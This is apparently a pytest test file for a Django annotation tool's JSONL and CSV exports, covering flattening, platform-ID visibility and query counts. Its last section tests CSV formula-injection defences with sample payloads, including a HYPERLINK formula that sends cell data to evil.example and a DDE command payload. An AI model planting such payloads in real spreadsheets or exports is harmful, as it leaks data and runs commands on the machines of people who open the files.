"""Exports: the kind's rows, as JSON lines and as CSV with nested values flattened."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.urls import reverse

from annotation import export
from annotation.models import Assignment, Campaign, Judgment, Worker
from tests import factories
from tests.annotation.builders import ab_campaign
from tests.annotation.test_progress import NOW, judge, shown

pytestmark = pytest.mark.django_db


def judged_campaign(n_items: int, **fields):
    c = ab_campaign(n_items, batch_size=n_items, **fields)
    for item in shown(c):
        judge(item, "w1", at=NOW - timedelta(minutes=1), ms=2500)
    return c


def test_rows_are_the_kinds_export_rows_in_judgment_order():
    c = judged_campaign(3)
    rows = list(export.export_rows(c))
    judgments = Judgment.objects.filter(campaign=c).order_by("pk")
    assert rows == [{**c.kind.export_row(j), "role": "task"} for j in judgments]
    assert [r["item"] for r in rows] == [j.item.position for j in judgments]
    assert rows[0]["choice"] == "a" and rows[0]["duration_ms"] == 2500


def test_csv_flattens_nested_values_as_json_and_leaves_none_empty():
    rows = [
        {"worker": "w1", "better": {"fluency": 0, "specificity": None}, "labels": ["bot"]},
        {"worker": "w2", "better": None, "labels": [], "reviewed": True},
    ]
    text = "".join(
        export.csv_lines([rows[0], {k: v for k, v in rows[1].items() if k != "reviewed"}])
    )
    assert list(csv.DictReader(io.StringIO(text))) == [
        {"worker": "w1", "better": '{"fluency": 0, "specificity": null}', "labels": '["bot"]'},
        {"worker": "w2", "better": "", "labels": "[]"},
    ]
    assert export.flat(True) == "true" and export.flat(3) == 3 and export.flat("x") == "x"


def test_flat_row_gives_every_nested_field_its_own_column():
    row = {
        "worker": "w1",
        "rating": {"fluency": 4, "relevance": None},
        "better": {"a": {"b": True}},
        "systems_a": ["alpha", "beta"],
    }
    assert export.flat_row(row) == {
        "worker": "w1",
        "rating_fluency": 4,
        "rating_relevance": None,
        "better_a_b": True,
        "systems_a": "alpha; beta",
    }


def test_csv_download_of_turn_ratings_has_a_line_per_bot_turn_and_a_column_per_dimension(
    client,
):
    from tests.annotation.kinds.test_likert import TURN, likert_campaign, start

    c = likert_campaign(TURN)
    start(client, c)
    assignment = Assignment.objects.get(worker__external_id="link:w1")
    item = assignment.batch.items.get()
    answers = {
        f"rating_{d}_{p}": str(v)
        for p, v in zip(item.content["bot_turns"], (5, 4, 1), strict=True)
        for d in TURN["dimensions"]
    }
    client.post(reverse("annotation:submit-item", args=[assignment.public_id, item.pk]), answers)
    response = staff_client(client).get(
        reverse("annotation:manage-campaign-export-csv", args=[c.slug])
    )
    text = b"".join(response.streaming_content).decode()
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert "{" not in text and "[" not in text
    assert [(r["turn"], r["rating_relevance"], r["rating_grammaticality"]) for r in parsed] == [
        (str(p), str(v), str(v)) for p, v in zip(item.content["bot_turns"], (5, 4, 1), strict=True)
    ]


def test_csv_refuses_a_row_with_a_key_the_header_lacks():
    rows = [{"worker": "w1"}, {"worker": "w2", "reviewed": True}]
    with pytest.raises(ValueError, match="reviewed"):
        "".join(export.csv_lines(rows))


def test_csv_rows_with_missing_keys_leave_cells_empty():
    text = "".join(export.csv_lines([{"a": 1, "b": [1]}, {"a": 2}]))
    assert text.splitlines() == ["a,b", "1,[1]", "2,"]


def test_jsonl_lines_are_one_json_object_each():
    rows = [{"text": "héllo", "n": 1}, {"text": "x", "n": None}]
    lines = list(export.jsonl_lines(rows))
    assert lines[0] == '{"text": "héllo", "n": 1}\n'
    assert [json.loads(line) for line in lines] == rows


def staff_client(client):
    client.force_login(factories.user(staff=True))
    return client


def test_jsonl_download_streams_every_judgment(client):
    c = judged_campaign(3)
    response = staff_client(client).get(
        reverse("annotation:manage-campaign-export-jsonl", args=[c.slug])
    )
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"] == f'attachment; filename="{c.slug}-judgments.jsonl"'
    rows = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    # Staff downloads carry the platform's ids beside EvalHub's own (issue 11).
    assert rows == list(export.export_rows(c, platform_ids=True))


def test_staff_exports_carry_the_platform_worker_and_submission_ids(client):
    c = judged_campaign(1)
    assignment = c.assignments.exclude(worker=None).first()
    Worker.objects.filter(pk=assignment.worker_id).update(provider="mturk", external_id="AW9")
    Assignment.objects.filter(pk=assignment.pk).update(provider_ref="ASG9")
    [row] = list(export.export_rows(c, platform_ids=True))
    assert row["worker"] == str(assignment.worker.public_id)
    assert (row["platform"], row["platform_worker_id"], row["platform_submission_id"]) == (
        "mturk",
        "AW9",
        "ASG9",
    )
    [line] = list(
        csv.DictReader(
            io.StringIO("".join(export.csv_lines(export.export_csv_rows(c, platform_ids=True))))
        )
    )
    assert (line["platform_worker_id"], line["platform_submission_id"]) == ("AW9", "ASG9")


def test_the_owners_export_has_no_platform_ids(client):
    owner = factories.user("researcher")
    c = judged_campaign(1)
    Campaign.objects.filter(pk=c.pk).update(owner=owner)
    client.force_login(owner)
    response = client.get(reverse("annotation:manage-campaign-export-jsonl", args=[c.slug]))
    assert response.status_code == 200
    [row] = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    assert "platform_worker_id" not in row and "worker" in row


def test_csv_download_has_a_header_and_a_line_per_judgment(client):
    c = judged_campaign(2)
    response = staff_client(client).get(
        reverse("annotation:manage-campaign-export-csv", args=[c.slug])
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    parsed = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(parsed) == 2
    assert (parsed[0]["choice"], parsed[0]["left"]) == ("a", "a") and "payload" not in parsed[0]
    assert parsed[0]["system_a"] == "sys-a"


def test_an_empty_campaign_exports_nothing(client):
    c = ab_campaign(2)
    response = staff_client(client).get(
        reverse("annotation:manage-campaign-export-csv", args=[c.slug])
    )
    assert b"".join(response.streaming_content) == b""


@pytest.mark.parametrize("n_items", [2, 40])
def test_export_queries_do_not_grow_with_the_campaign(n_items, django_assert_num_queries):
    c = judged_campaign(n_items)
    with django_assert_num_queries(1):
        rows = list(export.export_rows(c))
    assert len(rows) == n_items


def csv_text(rows) -> str:
    return "".join(export.csv_lines(export.flat_row(row) for row in rows)).replace("\r\n", "\n")


def test_the_admin_guide_export_examples_are_what_is_exported(monkeypatch):
    from pathlib import Path
    from types import SimpleNamespace

    from annotation.kinds import get_kind

    guide = (Path(__file__).resolve().parents[2] / "docs" / "guides" / "admins.md").read_text()
    likert = SimpleNamespace(
        item=SimpleNamespace(
            content={"meta": {"conversation": "c-17", "system": "chatty"}, "bot_turns": [1, 3]},
            role="task",
        ),
        campaign=SimpleNamespace(slug="likert-demo"),
        assignment=SimpleNamespace(batch=SimpleNamespace(position=0)),
        worker=SimpleNamespace(public_id="9a1f0c2e-..."),
        payload={
            "ratings": {"relevance": [5, 4], "fluency": [3, 3]},
            "dimension_order": ["fluency", "relevance"],
        },
        started_at=SimpleNamespace(timestamp=lambda: 1732320000.0),
        seconds=3.5,
    )
    likert_kind = get_kind("likert")
    assert f"```json\n{json.dumps(export.export_row(likert_kind, likert))}\n```" in guide
    assert f"```csv\n{csv_text(export.csv_rows(likert_kind, likert))}```" in guide
    spot_the_bot = get_kind("spot_the_bot")
    row = {
        "conversation": "c-204",
        "worker": "5be1...",
        "batch": "stb-demo:3",
        "exchanges": 3,
        "labels": ["bot", "human"],
        "better": {"sensibleness": 1, "specificity": None, "fluency": 1},
        "started_at_ms": 1732320000000,
        "duration_ms": 41000,
    }
    monkeypatch.setattr(spot_the_bot, "export_row", lambda judgment: dict(row))
    gold = SimpleNamespace(item=SimpleNamespace(role="gold"))
    assert f"```csv\n{csv_text(export.csv_rows(spot_the_bot, gold))}```" in guide


def test_every_row_says_whether_its_item_is_a_task_or_gold():
    c = ab_campaign(2, batch_size=3, gold=1)
    for item in c.items.filter(batch__isnull=False):
        judge(item, "w1", at=NOW - timedelta(minutes=1), ms=2500)
    rows = list(export.export_rows(c))
    csv_rows = list(export.export_csv_rows(c))
    gold = set(c.items.filter(role="gold").values_list("position", flat=True))
    assert len(gold) == 1 and len(rows) == 3
    assert {r["item"] for r in rows if r["role"] == "gold"} == gold
    assert sorted(r["role"] for r in csv_rows) == ["gold", "task", "task"]
    assert Judgment.objects.filter(campaign=c, item__role="gold").count() == 1


# Issue 23, finding 3: no cell of a CSV export is a spreadsheet formula ----------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@A1",
    "\tstart",
    "\rstart",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_staff_csv_neutralises_a_platform_id_that_is_a_formula(client, value):
    c = judged_campaign(1)
    assignment = c.assignments.exclude(worker=None).first()
    Worker.objects.filter(pk=assignment.worker_id).update(provider="mturk", external_id=value)
    response = staff_client(client).get(
        reverse("annotation:manage-campaign-export-csv", args=[c.slug])
    )
    assert response.status_code == 200
    [line] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert line["platform_worker_id"] == "'" + value
    # The stored id is left as it came; only the file a spreadsheet opens is neutralised.
    assert Worker.objects.get(pk=assignment.worker_id).external_id == value


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    rows = [{"score": -1.5, "delta": -2, "note": "fine - really", "empty": None}]
    [line] = list(csv.DictReader(io.StringIO("".join(export.csv_lines(rows)))))
    assert line == {"score": "-1.5", "delta": "-2", "note": "fine - really", "empty": ""}


def test_a_header_that_is_a_formula_is_neutralised_too():
    text = "".join(export.csv_lines([{"=SUM(A1)": "x"}]))
    assert text.splitlines()[0] == "'=SUM(A1)"
